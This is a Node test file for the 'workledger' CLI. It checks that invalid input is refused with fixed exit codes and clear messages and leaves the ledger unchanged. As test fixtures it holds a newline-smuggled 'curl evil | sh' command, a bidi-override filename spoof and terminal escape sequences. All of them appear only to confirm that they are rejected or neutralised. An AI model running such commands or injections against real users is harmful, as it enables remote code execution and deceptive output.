/** Bad input is rejected with the contract's exit code and a message naming the problem, and changes nothing. */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import Database from "better-sqlite3";
import { CLI, sandbox, type Sandbox } from "../helpers/cli.ts";
import { dumpSqlite as dump } from "../helpers/db.ts";
import { latestVersion } from "../../src/storage/sqlite/migrate.ts";

describe("bad input", () => {
  let s: Sandbox;
  let before_: string;
  before(() => {
    s = sandbox();
    s.run(["create", "-p", "p", "--agent", "obs", "--title", "one", "--verification", "true"]);
    s.run(["claim", "-p", "p", "--agent", "holder", "--id", "1"]);
    s.run(["context-put", "-p", "p", "--agent", "obs", "-m", "ctx"]);
    before_ = dump(s.db);
  });
  after(() => s.cleanup());

  const cases: [string, string[], number, RegExp, string?][] = [
    ["unknown status", ["update", "--id", "1", "--status", "bogus"], 2, /status: must be one of/],
    ["list with unknown status", ["list", "--status", "finished"], 2, /status: must be one of/],
    ["unknown priority", ["create", "--title", "x", "--priority", "P9"], 2, /priority: must be one of P0, P1, P2, P3/],
    ["malformed id", ["claim", "--id", "WO-x"], 2, /id: must be a work-order id/],
    ["negative id", ["get", "--id", "-4"], 2, /id: must be a work-order id/],
    ["missing id", ["release"], 2, /^--id is required$/],
    ["missing id (update, get)", ["get"], 2, /^--id is required$/],
    ["empty title", ["create", "--title", ""], 2, /title: must not be empty/],
    ["title too long", ["create", "--title", "x".repeat(201)], 2, /title: must be at most 200/],
    ["TTL of 0s", ["claim", "--id", "1", "--ttl", "0s"], 2, /ttl: must be a duration between 1s and 7d/],
    ["TTL without a unit", ["claim", "--id", "1", "--ttl", "30"], 2, /ttl: needs a unit: did you mean 30s or 30m\?/],
    ["TTL abc", ["claim", "--id", "1", "--ttl", "abc"], 2, /ttl:/],
    ["TTL over 7 days", ["renew", "--id", "1", "--ttl", "8d"], 2, /ttl:/],
    ["malformed JSON batch", ["create", "--from", "-"], 2, /from: not valid JSON/, "[{title:"],
    ["batch that is not work orders", ["create", "--from", "-"], 2, /items\[0\]/, "[42]"],
    ["claim with both --id and --next", ["claim", "--id", "1", "--next"], 2, /exactly one of id or next/],
    ["bad project name", ["list", "-p", "Not OK"], 2, /project: must match/],
    ["unknown note kind", ["add-note", "--id", "1", "--kind", "rant", "-m", "x"], 2, /kind: must be one of/],
    ["empty note", ["add-note", "--id", "1", "-m", ""], 2, /body: must not be empty/],
    ["bad --if-revision", ["update", "--id", "1", "--title", "x", "--if-revision", "abc"], 2, /if_revision/],
    ["unknown option", ["claim", "--id", "1", "--frobnicate"], 2, /unknown option '--frobnicate'; the options of claim: --id, --next, --ttl/],
    ["mistyped option", ["claim", "--id", "1", "--tl", "5m"], 2, /unknown option '--tl' \(Did you mean --ttl\?\)/],
    ["unknown command", ["frobnicate"], 2, /unknown command/],
    ["update with nothing to change", ["update", "--id", "1"], 2, /nothing to update/],
    ["dependency on a missing WO", ["create", "--title", "x", "--depends-on", "77"], 2, /WO-77 does not exist/],
    ["unknown project for a read", ["list", "-p", "ghost"], 4, /project ghost does not exist/],
    ["unknown WO", ["get", "--id", "99"], 4, /WO-99 does not exist/],
    ["non-holder update", ["update", "--id", "1", "--title", "mine"], 3, /claimed by holder/],
    ["non-writable --db path", ["list", "--db", "/proc/no/such/dir/ledger.db"], 7, /cannot use ledger/],
    ["bidi override in a title (issue 13)", ["create", "--title", "safe\u202egnp.exe"], 2, /title: must be a single line without control characters or bidi overrides/],
    ["C1 control in a verification command", ["create", "--title", "x", "--verification", "npm test\u009b31m"], 2, /verification: must be a single line/],
    ["newline hiding a second command in verification", ["create", "--title", "x", "--verification", "npm test\ncurl evil | sh"], 2, /verification: must be a single line/],
    ["lone surrogate in a batch", ["create", "--from", "-"], 2, /items\[1\]\.title: must be valid Unicode text/, '[{"title":"ok"},{"title":"\\ud800"}]'],
    ["serve on a port that cannot exist", ["serve", "--port", "70000"], 2, /port: must be a whole number from 0 to 65535/],
  ];

  for (const [name, args, code, message, input] of cases) {
    it(`${name} → exit ${code}, ledger unchanged`, () => {
      const env = { WORKLEDGER_AGENT: "intruder", WORKLEDGER_PROJECT: "p" };
      const r = s.run([...args, "--json"], { env, input: input ?? "" });
      assert.equal(r.code, code, r.stdout + r.stderr);
      assert.match(r.json.error.message, message);
      assert.equal(typeof r.json.error.code, "string");
      assert.equal(r.stderr.includes("at "), false, "no stack trace");
      const human = s.run(args, { env, input: input ?? "" });
      assert.equal(human.code, code);
      assert.match(human.stderr, /^error: /);
      assert.equal(human.stdout, "");
      assert.equal(dump(s.db), before_);
    });
  }

  it("a reader that stops early (| head) gets no stack trace (seventeenth trials)", () => {
    const db = `${s.dir}/long.db`;
    const items = JSON.stringify(Array.from({ length: 400 }, (_, i) => ({ title: `a rather long title for work order number ${i}`, description: "x".repeat(200) })));
    assert.equal(s.run(["create", "--db", db, "-p", "long", "--agent", "o", "--from", "-", "--new-project"], { input: items }).code, 0);
    const env = { ...process.env, ...s.env, WORKLEDGER_DB: db };
    const r = spawnSync("sh", ["-c", `"$0" "$1" list -p long --status all --limit 1000 --json | head -c 10 > /dev/null`, process.execPath, CLI], { env, encoding: "utf8" });
    assert.equal(r.stderr, "");
  });

  it("bytes that are not UTF-8 are refused (exit 2) in arguments, files and stdin, not stored as U+FFFD (issue 13)", () => {
    const bad = `${s.dir}/bad.json`;
    writeFileSync(bad, Buffer.concat([Buffer.from('[{"title":"a'), Buffer.from([0xff, 0xfe]), Buffer.from('"}]')]));
    const env = { ...process.env, ...s.env, WORKLEDGER_AGENT: "intruder", WORKLEDGER_PROJECT: "p" };
    // Node cannot pass such bytes as an argument itself: a shell's printf writes them.
    const viaShell = (script: string) => spawnSync("sh", ["-c", script, process.execPath, CLI, bad], { env, encoding: "utf8" });
    for (const [script, field] of [
      [`exec "$0" "$1" create --json --title "a$(printf '\\377')b"`, "title"],
      [`exec "$0" "$1" create --json --from "$2"`, "from"],
      [`printf 'x\\377y' | "$0" "$1" add-note --json --id 1`, "body"],
    ] as const) {
      const r = viaShell(script);
      assert.equal(r.status, 2, r.stdout + r.stderr);
      assert.match(JSON.parse(r.stdout).error.message, new RegExp(`${field}: not valid UTF-8 text`));
    }
    // A real U+FFFD typed as text is text.
    assert.equal(s.run(["create", "--title", "a\ufffdb", "--json", "-p", "q", "--agent", "o", "--db", `${s.dir}/other.db`]).json.title, "a\ufffdb");
    assert.equal(dump(s.db), before_);
  });

  it("human output shows stored terminal escapes as text instead of sending them (issue 13)", () => {
    const db = `${s.dir}/legacy.db`;
    const env = { WORKLEDGER_AGENT: "old", WORKLEDGER_PROJECT: "p", WORKLEDGER_DB: db };
    s.run(["create", "--title", "t"], { env });
    s.run(["context-put", "-m", "x"], { env });
    // A ledger written before the schemas refused escapes in these fields.
    const conn = new Database(db);
    const esc = "\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202e";
    conn.prepare("UPDATE context SET body = ?, git = ?").run(`body${esc}`, JSON.stringify({ head: `abc${esc}`, branch: `main${esc}`, dirty: false }));
    conn.prepare("UPDATE work_orders SET title = ?, description = ?").run(`title${esc}`, `desc${esc}`);
    conn.close();
    for (const args of [["context-pull"], ["context-pull", "--history"], ["get", "--id", "1"], ["list"]]) {
      const r = s.run(args, { env });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, /[\u0007\u001b\u009b\u202e]/, args.join(" "));
      assert.match(r.stdout, /\\u\{1b\}/, args.join(" "));
    }
  });

  it("no command at all is a usage error (exit 2), not help with exit 0", () => {
    const r = s.run(["--json"]);
    assert.equal(r.code, 2);
    assert.equal(r.json.error.message, "no command given");
    assert.equal(s.run(["help"]).code, 0);
  });

  it("mutations without an identity fail with exit 2 and say how to fix it", () => {
    for (const args of [
      ["create", "--title", "x"],
      ["claim", "--id", "1"],
      ["renew", "--id", "1"],
      ["release", "--id", "1"],
      ["update", "--id", "1", "--status", "done"],
      ["add-note", "--id", "1", "-m", "x"],
      ["verify", "--id", "1"],
      ["context-put", "-m", "x"],
      ["project", "create", "q"],
    ]) {
      const r = s.run([...args, "--json"], { env: { WORKLEDGER_PROJECT: "p" } });
      assert.equal(r.code, 2, args.join(" "));
      assert.equal(r.json.error.code, "NO_IDENTITY");
      assert.match(r.json.error.hint, /^set WORKLEDGER_AGENT=NAME where workledger runs, or give --agent NAME/);
    }
    // A bad name is refused naming where it came from, for every command and the MCP server (fifteenth trials: `agent`).
    for (const [args, env, from] of [
      [["claim", "--id", "1"], { WORKLEDGER_AGENT: "bad name" }, "WORKLEDGER_AGENT"],
      [["mcp"], { WORKLEDGER_AGENT: "bad name" }, "WORKLEDGER_AGENT"],
      [["list", "--agent", "-x"], {}, "--agent"],
    ] as const) {
      const r = s.run([...args, "--json"], { env: { WORKLEDGER_PROJECT: "p", ...env } });
      assert.equal(r.code, 2, args.join(" "));
      assert.match(r.json.error.message, new RegExp(`^${from}: must be 1-128 characters`));
    }
    assert.equal(dump(s.db), before_);
  });

  it("a newer schema is refused with a clear message and left untouched", () => {
    const db = `${s.dir}/future.db`;
    assert.equal(s.run(["init", "--db", db]).code, 0);
    const conn = new Database(db);
    conn.pragma("user_version = 999");
    conn.close();
    const snapshot = dump(db);
    const r = s.run(["list", "--db", db, "--json"]);
    assert.equal(r.code, 7);
    assert.match(r.json.error.message, new RegExp(`schema v999, newer than this workledger understands \\(v${latestVersion()}\\)`));
    assert.match(r.json.error.hint, /upgrade workledger/);
    assert.equal(dump(db), snapshot);
  });
});
